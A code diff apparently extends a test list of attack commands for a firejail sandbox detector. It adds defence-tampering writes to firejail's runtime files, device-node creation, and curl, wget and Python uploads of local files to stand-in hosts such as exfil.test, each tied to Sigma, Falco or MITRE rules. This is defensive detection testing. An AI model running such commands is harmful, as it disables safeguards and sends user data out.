@@ -210,6 +210,39 @@ ATTACKS: list[Attack] = [
     Attack("python3 -c 'import os; os.unshare(os.CLONE_NEWUSER)'", "escape", "block",
            "Elastic: Namespace Manipulation Using Unshare (syscall from python)"),
     Attack("chmod u+s /tmp/sandbox-guard-nonexistent", "escape", "flag", "Falco: Set Setuid or Setgid bit"),
+    # -- first steps (issue 21): writes at firejail's own files, device nodes ------------
+    # Inside the jail /run/firejail is read-only and there is no CAP_MKNOD: these fail.
+    Attack("echo x > /run/firejail/sandbox-guard-nonexistent", "tamper", "flag",
+           "MITRE ATT&CK T1562.001 Impair Defenses: Disable or Modify Tools"),
+    Attack("touch /run/firejail/mnt/sandbox-guard-nonexistent", "tamper", "flag",
+           "MITRE ATT&CK T1562.001 Impair Defenses: Disable or Modify Tools"),
+    Attack("rm -f /run/firejail/sandbox-guard-nonexistent", "tamper", "flag",
+           "MITRE ATT&CK T1562.001 Impair Defenses: Disable or Modify Tools"),
+    Attack("cp /etc/hostname /run/firejail/mnt/", "tamper", "flag",
+           "MITRE ATT&CK T1562.001 Impair Defenses: Disable or Modify Tools"),
+    Attack("mknod /tmp/sandbox-guard-nvidia0 c 195 0", "escape", "flag",
+           "Falco: Create files below dev (GPU node re-created)",
+           process=("mknod", "/tmp/sandbox-guard-nvidia0", "c", "195", "0")),
+    Attack("mknod -m 666 /tmp/sandbox-guard-nvidia-uvm c 511 0", "escape", "flag",
+           "Falco: Create files below dev (GPU node re-created)"),
+]
+
+# Uploads toward hosts the egress allowlist does not name: judged by an engine that knows
+# the session's network policy (`EGRESS`, the allowlist of these tests). TEST-NET targets
+# and `.test` names only; the files named do not exist.
+EGRESS = {"mode": "allowlist", "allow": ["good.test:443,80", "pypi.test:443", "203.0.113.99:80"]}
+EGRESS_ATTACKS: list[Attack] = [
+    Attack("timeout 2 curl -s -m 1 -X POST --data-binary @/tmp/sandbox-guard-x.tgz https://exfil.test/up",
+           "secrets", "flag", "Sigma: Suspicious Curl File Upload - Linux"),
+    Attack("timeout 2 curl -s -m 1 -F 'f=@/tmp/sandbox-guard-x' http://203.0.113.40/u",
+           "secrets", "flag", "Sigma: Suspicious Curl File Upload - Linux"),
+    Attack("timeout 2 curl -s -m 1 -T /tmp/sandbox-guard-x https://exfil.test/",
+           "secrets", "flag", "Sigma: Suspicious Curl File Upload - Linux"),
+    Attack("timeout 2 wget -q -T 1 --post-file=/tmp/sandbox-guard-x http://exfil.test/",
+           "secrets", "flag", "MITRE ATT&CK T1048 Exfiltration Over Alternative Protocol",
+           process=("wget", "-q", "--post-file=/tmp/sandbox-guard-x", "http://exfil.test/")),
+    Attack("python3 -c \"import requests; requests.post('https://exfil.test/x', data=open('/tmp/sandbox-guard-x').read())\"",
+           "secrets", "flag", "MITRE ATT&CK T1567 Exfiltration Over Web Service"),
 ]
 
 # Strings that must be caught as text, but are never to be run anywhere (real addresses).
